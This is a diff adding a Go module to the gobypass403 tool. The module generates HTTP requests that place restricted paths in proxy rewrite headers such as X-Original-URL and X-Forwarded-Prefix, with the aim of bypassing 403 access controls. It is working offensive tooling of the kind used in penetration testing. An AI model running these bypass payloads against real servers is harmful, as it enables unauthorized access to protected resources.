@@ -0,0 +1,136 @@
+package payload
+
+import (
+	"strings"
+
+	"github.com/slicingmelon/go-rawurlparser"
+	GB403Logger "github.com/slicingmelon/gobypass403/core/utils/logger"
+)
+
+/*
+GenerateProxyPathRewritePayloads generates payloads targeting reverse proxies and
+frameworks that rebuild the request path from forwarding headers.
+
+It reads the header names (X-Forwarded-Prefix, X-Original-URL, X-Rewrite-URL,
+X-Forwarded-Path, etc.) from header_path_rewrite.lst.
+
+For each header name, it creates these variations:
+1.  **Root Request:**
+  - RawURI: '/'
+  - Header Value: Full restricted path (+ original query string).
+
+2.  **Parent Path Request:**
+  - RawURI: Each parent path of the restricted path (e.g. '/admin' for '/admin/users').
+  - Header Value: Full restricted path (+ original query string).
+
+3.  **Prefix Split (prefix headers only, e.g. X-Forwarded-Prefix, X-Script-Name):**
+  - The restricted path is split after each segment, as a proxy stripping a mount prefix would.
+  - RawURI: Remaining path (+ original query string), e.g. '/users'.
+  - Header Value: Stripped prefix, e.g. '/admin'.
+
+Unlike headers_url, the header always carries the real restricted path (or its prefix)
+while the request line points to an allowed, shorter path.
+
+The original URL's method, scheme, and host are preserved.
+Jobs are deduplicated on (RawURI, header, value).
+*/
+func (pg *PayloadGenerator) GenerateProxyPathRewritePayloads(targetURL string, bypassModule string) []BypassPayload {
+	var allJobs []BypassPayload
+
+	parsedURL, err := rawurlparser.RawURLParse(targetURL)
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to parse URL")
+		return allJobs
+	}
+
+	rewriteHeaders, err := pg.readModulePayloads("header_path_rewrite.lst")
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to read path rewrite headers: %v", err)
+		return allJobs
+	}
+
+	query := ""
+	if parsedURL.Query != "" {
+		query = "?" + parsedURL.Query
+	}
+
+	fullPath := parsedURL.Path
+	if fullPath == "" {
+		fullPath = "/"
+	}
+
+	// Segments of the path, without empty ones (e.g. trailing slash)
+	var segments []string
+	for _, segment := range strings.Split(fullPath, "/") {
+		if segment != "" {
+			segments = append(segments, segment)
+		}
+	}
+
+	// Nothing to rewrite on the root path
+	if len(segments) == 0 {
+		GB403Logger.Debug().BypassModule(bypassModule).Msgf("No path to rewrite for %s\n", targetURL)
+		return allJobs
+	}
+
+	// Base job template
+	baseJob := BypassPayload{
+		OriginalURL:  targetURL,
+		Method:       "GET",
+		Scheme:       parsedURL.Scheme,
+		Host:         parsedURL.Host,
+		BypassModule: bypassModule,
+	}
+
+	type jobKey struct {
+		rawURI string
+		header Headers
+	}
+	seen := make(map[jobKey]struct{})
+	addJob := func(rawURI, header, value string) {
+		key := jobKey{rawURI, Headers{Header: header, Value: value}}
+		if _, ok := seen[key]; ok {
+			return
+		}
+		seen[key] = struct{}{}
+
+		job := baseJob
+		job.RawURI = rawURI
+		job.Headers = []Headers{key.header}
+		job.PayloadToken = GeneratePayloadToken(job)
+		allJobs = append(allJobs, job)
+	}
+
+	for _, header := range rewriteHeaders {
+		if header == "" {
+			continue
+		}
+
+		// 1. Root request, full path in header
+		addJob("/", header, fullPath+query)
+
+		// 2. Parent paths on the request line, full path in header
+		for i := len(segments) - 1; i > 0; i-- {
+			addJob("/"+strings.Join(segments[:i], "/"), header, fullPath+query)
+		}
+
+		// 3. Prefix split, the header carries the stripped mount prefix
+		lowerHeader := strings.ToLower(header)
+		if !strings.Contains(lowerHeader, "prefix") &&
+			!strings.Contains(lowerHeader, "context") &&
+			!strings.Contains(lowerHeader, "script-name") {
+			continue
+		}
+		for i := 1; i <= len(segments); i++ {
+			prefix := "/" + strings.Join(segments[:i], "/")
+			rest := strings.TrimPrefix(fullPath, prefix)
+			if rest == "" {
+				rest = "/"
+			}
+			addJob(rest+query, header, prefix)
+		}
+	}
+
+	GB403Logger.Debug().BypassModule(bypassModule).Msgf("Generated %d payloads for %s\n", len(allJobs), targetURL)
+	return allJobs
+}